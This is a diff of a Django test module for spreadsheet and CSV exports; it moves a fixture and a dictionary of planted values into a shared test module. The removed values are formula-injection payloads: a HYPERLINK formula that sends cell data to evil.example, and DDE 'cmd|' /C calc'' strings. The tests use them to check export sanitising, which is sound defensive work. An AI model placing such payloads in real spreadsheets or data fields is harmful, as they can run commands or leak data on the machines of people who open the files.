@@ -20,26 +20,13 @@ from django.test import Client
 from openpyxl import load_workbook
 
 from gis_app.accounts.roles import Role
-from gis_app.audit.log import audit
-from gis_app.audit.models import AuditAction
 from gis_app.permissions import walk
 from layers.exports import FORMULA_TRIGGERS, neutralise_formula
-from layers.models import LandscapeArea, ParkingZone
-from tests.conftest import square
+from tests.db.register_town import PLANTED, _ids
+from tests.db.register_town import town as town
 
 pytestmark = pytest.mark.django_db
 
-PLANTED = {
-    "lessee": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "lease_number": "+1+cmd|' /C calc'!A0",
-    "taxpayer": "-2+3+cmd|' /C calc'!A0",
-    "flat": "\t=1+1",
-    "operator": "@SUM(1+1)*cmd|' /C calc'!A0",
-    "zone": "=zone()",
-    "area": "\r=area()",
-    "audit": "=audit()",
-    "offer": "＝fullwidth()",
-}
 CSV_MIME = "text/csv"
 XLSX_MIME = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
 PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?:[eE][+-]?\d+)?")
@@ -55,66 +42,6 @@ def test_neutralise_formula():
     assert neutralise_formula("Kowalski") == "Kowalski"
     assert neutralise_formula(-3) == -3
     assert neutralise_formula(None) is None
-
-
-@pytest.fixture
-def town(make_municipality, make_parcel):
-    from registers.housing import demo as housing_demo
-    from registers.landscape import demo as landscape_demo
-    from registers.leases import demo as lease_demo
-    from registers.leases.models import InvestmentOffer, Lease
-    from registers.parking import demo as parking_demo
-    from registers.taxes import demo as tax_demo
-    from registers.taxes.models import Taxpayer
-
-    town = make_municipality()
-    for i in range(60):
-        make_parcel(str(i + 1), 677_000 + (i % 10) * 25, 211_000 + (i // 10) * 25, size=25,
-                    municipality=town)
-    ParkingZone.objects.create(municipality=town, code="A", name=PLANTED["zone"],
-                               kind=ParkingZone.Kind.ORDINARY, geom=square(677_000, 211_000, 300),
-                               source_namespace="test", local_id="zone-A")
-    LandscapeArea.objects.create(municipality=town, code="K1", name=PLANTED["area"],
-                                 kind="cultural_park", geom=square(677_000, 211_000, 200),
-                                 source_namespace="test", local_id="area-K1")
-    lease_demo.load_demo(town)
-    tax_demo.load_demo(town)
-    housing_demo.load_demo(town)
-    parking_demo.load_demo(town)
-    landscape_demo.load_demo(town)
-    from registers.housing.models import ProtectedFlat
-
-    assert Lease.objects.filter(municipality=town).update(
-        lessee_name=PLANTED["lessee"], number=PLANTED["lease_number"])
-    assert Taxpayer.objects.filter(municipality=town).update(name=PLANTED["taxpayer"])
-    assert ProtectedFlat.objects.filter(municipality=town).update(
-        address=PLANTED["flat"], operator_name=PLANTED["operator"])
-    assert InvestmentOffer.objects.filter(municipality=town).update(title=PLANTED["offer"])
-    audit(None, AuditAction.UPDATE, "test", PLANTED["audit"], municipality_id=town.id,
-          detail=PLANTED["audit"])
-    return town
-
-
-def _ids(town) -> dict[str, int]:
-    """Record ids for the routes' path parameters, by the route's start."""
-    from layers.models import Parcel
-    from registers.housing.models import ProtectedFlat
-    from registers.leases.models import InvestmentOffer, Lease
-    from registers.taxes.models import Taxpayer
-
-    def first(model, **kw) -> int:
-        obj = model.objects.filter(**kw).order_by("id").first()
-        return obj.id if obj else 1
-
-    return {
-        "leases/offers/": first(InvestmentOffer, municipality=town),
-        "leases/": first(Lease, municipality=town),
-        "housing/": first(ProtectedFlat, municipality=town),
-        "landscape/areas/": first(LandscapeArea, municipality=town),
-        "taxpayer_id": first(Taxpayer, municipality=town),
-        "parcel_id": first(Parcel, municipality=town),
-        "municipality_id": town.id,
-    }
 
 
 def _candidate_urls(town) -> list[str]:
